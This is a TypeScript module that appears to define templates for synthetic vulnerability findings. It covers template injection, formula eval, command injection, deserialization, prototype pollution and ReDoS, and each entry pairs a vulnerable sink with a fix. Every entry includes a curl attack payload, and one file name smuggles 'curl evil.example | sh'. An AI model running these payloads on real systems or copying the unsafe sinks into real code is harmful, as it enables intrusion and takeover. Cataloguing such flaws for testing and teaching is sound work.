import { type Flaw, told } from './flaw.ts';

/** Input that is run, or that keeps the process from running anything else. */
export const flawsOfExecution = {
  render: {
    type: 'RCE',
    cwe: 'CWE-1336',
    ratings: ['platformTakeover', 'userTakeover', 'adminTakeover'],
    file: 'service',
    titles: [
      told`Server-side template injection in ${'one'} texts`,
      told`RCE via Handlebars template stored with ${'aOne'}`,
    ],
    texts: [
      told`Texts of ${'many'} are compiled as templates with access to prototypes (\`allowProtoMethodsByDefault: true\`). \`{{#with "s" as |string|}}…{{/with}}\` reaches \`Function\` and thereby the shell of the API container.`,
      told`\`ejs.render(text, data)\` runs whatever stands between \`<%\` and \`%>\`. The text is editable by ${'by'}.`,
    ],
    sink: told`return ejs.render(template.text, { ...data });`,
    fix: told`return mustache.render(template.text, data);`,
    attack: told`curl -X PATCH -H "Authorization: Bearer $TOKEN" -d '{"text":"<%= process.mainModule.require(\\"child_process\\").execSync(\\"id\\") %>"}' https://shop.example.com${'route'}/10021`,
  },
  formula: {
    type: 'RCE',
    cwe: 'CWE-95',
    ratings: ['platformTakeover', 'userTakeover', 'adminTakeover'],
    file: 'service',
    titles: [
      told`RCE via evaluated formula of ${'aOne'}`,
      told`\`new Function()\` executes conditions entered for ${'many'}`,
    ],
    texts: [
      told`Conditions such as \`total > 100 && country == 'CH'\` are turned into code with \`new Function('ctx', 'with (ctx) { return ' + formula + ' }')\`. The deny list (\`require\`, \`process\`) is beaten by \`constructor.constructor('return this')()\`.`,
      told`The formula runs in \`vm.runInNewContext\`, which is no security boundary: \`this.constructor.constructor\` leaves the sandbox in one step.`,
    ],
    sink: told`return new Function('ctx', \`with (ctx) { return \${formula} }\`)(context);`,
    fix: told`return evaluate(parseExpression(formula), context);`,
    attack: told`curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"formula":"constructor.constructor(\\"return process\\")().env"}' https://shop.example.com${'route'}/preview`,
  },
  convert: {
    type: 'RCE',
    cwe: 'CWE-78',
    ratings: ['userTakeover', 'platformTakeover', 'anonymousTakeover'],
    file: 'job',
    titles: [
      told`OS command injection when converting ${'many'}`,
      told`RCE via file name passed to a shell in the ${'one'} job`,
    ],
    texts: [
      told`Documents are converted with \`exec('soffice --convert-to pdf ' + name)\`, which starts a shell. The original file name is kept; \`a"; curl evil.example | sh; ".docx\` is a valid one. Affects every ${'one'} with an attachment.`,
      told`Arguments for ImageMagick are joined with spaces and handed to \`child_process.exec\`. Quoting is done by surrounding them with double quotes, inside which \`$(…)\` and backticks (\`\` \` \`\`) are still expanded.`,
    ],
    sink: told`exec(\`convert "\${source}" -resize \${width} "\${target}"\`);`,
    fix: told`execFile('convert', ['--', source, '-resize', String(width), target]);`,
    attack: told`curl -F 'file=@x.png;filename="$(touch /tmp/pwned).png"' -H "Authorization: Bearer $TOKEN" https://shop.example.com${'route'}`,
  },
  deserialize: {
    type: 'RCE',
    cwe: 'CWE-502',
    ratings: ['anonymousTakeover', 'userTakeover'],
    file: 'service',
    titles: [told`Unsafe deserialization of ${'many'}`, told`RCE via \`node-serialize\` payload in ${'aOne'}`],
    texts: [
      told`The state of ${'aOne'} travels through the browser as a cookie and is restored with \`unserialize()\`. Functions in it, \`_$$ND_FUNC$$_function(){…}()\`, are called while parsing.`,
      told`YAML is loaded with \`yaml.load(text, { schema: DEFAULT_FULL_SCHEMA })\`, which constructs JavaScript functions from \`!!js/function\` tags.`,
    ],
    sink: told`const state = unserialize(Buffer.from(cookie, "base64").toString());`,
    fix: told`const state = stateSchema.parse(JSON.parse(await verify(cookie)));`,
    attack: told`curl -H "Cookie: state=$(printf '{"x":"_$$ND_FUNC$$_function(){require(\\"child_process\\").exec(\\"id\\")}()"}' | base64 -w0)" https://shop.example.com${'route'}`,
  },
  merge: {
    type: 'RCE',
    cwe: 'CWE-1321',
    ratings: ['anonymousTakeover', 'userTakeover'],
    file: 'service',
    titles: [
      told`Prototype pollution when merging ${'many'}`,
      told`\`__proto__\` in ${'aOne'} changes the behaviour of the whole process`,
    ],
    texts: [
      told`\`deepMerge(defaults, body)\` recurses into \`__proto__\`. Setting \`{"__proto__":{"isAdmin":true}}\` on one ${'one'} makes \`account.isAdmin\` true for *every* later request until the container restarts.`,
      told`With \`{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}\` the next \`child_process.fork\` runs code of the attacker.`,
    ],
    sink: told`for (const key in source) target[key] = isObject(source[key]) ? deepMerge(target[key], source[key]) : source[key];`,
    fix: told`return structuredClone({ ...defaults, ...pick(body, editableFields) });`,
    attack: told`curl -X PATCH -H "Authorization: Bearer $TOKEN" -d '{"__proto__":{"isAdmin":true}}' https://shop.example.com${'route'}/current`,
  },
  pattern: {
    type: 'RCE',
    cwe: 'CWE-1333',
    ratings: ['stall'],
    file: 'service',
    titles: [
      told`ReDoS: user-defined pattern blocks the event loop for ${'many'}`,
      told`Catastrophic backtracking in the validation of ${'many'}`,
    ],
    texts: [
      told`\`new RegExp(rule)\` takes its pattern from the ${'one'}. \`(a+)+$\` against thirty characters keeps the process busy for minutes, for all customers.`,
      told`The address check \`/^([a-zA-Z0-9_.-]+)*@/\` backtracks exponentially on \`aaaaaaaaaaaaaaaaaaaaaaaaaaaa!\`. One request occupies one core until the container is killed.`,
    ],
    sink: told`return new RegExp(rule).test(input);`,
    fix: told`return new RE2(rule).test(input);`,
    attack: told`curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"rule":"(a+)+$","input":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"}' https://shop.example.com${'route'}/test`,
  },
} as const satisfies Record<string, Flaw>;
